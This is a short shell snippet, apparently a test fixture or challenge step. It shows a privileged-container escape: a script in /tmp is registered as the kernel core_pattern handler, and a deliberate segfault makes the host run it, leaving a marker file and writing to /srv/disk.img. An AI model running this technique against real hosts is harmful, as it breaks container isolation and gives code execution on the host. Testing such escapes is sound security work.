#: hint: but nobody has opened /dev/loop0 for it
printf '#!/bin/sh\nexec > /tmp/helped\n' > /tmp/x; chmod 755 /tmp/x
crun exec privileged sh -c 'echo "|/tmp/x" > /proc/sys/kernel/core_pattern; kill -SEGV $$'
until [ -f /tmp/helped ]; do sleep 0.3; done
hostname > /srv/disk.img
